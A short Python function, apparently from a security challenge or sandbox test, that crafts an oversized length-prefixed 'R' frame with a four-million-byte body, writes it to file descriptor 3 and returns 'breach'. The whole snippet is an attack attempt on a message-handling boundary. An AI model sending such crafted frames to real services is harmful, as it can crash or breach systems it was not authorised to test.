import os
import struct


def f(canary, port):
    body = b"\xc9" + struct.pack(">IB", 4_000_000, 2) + b"f" * 4_000_000
    frame = struct.pack("<BII", ord("R"), 0, len(body)) + body
    while frame:
        frame = frame[os.write(3, frame) :]
    return "breach"
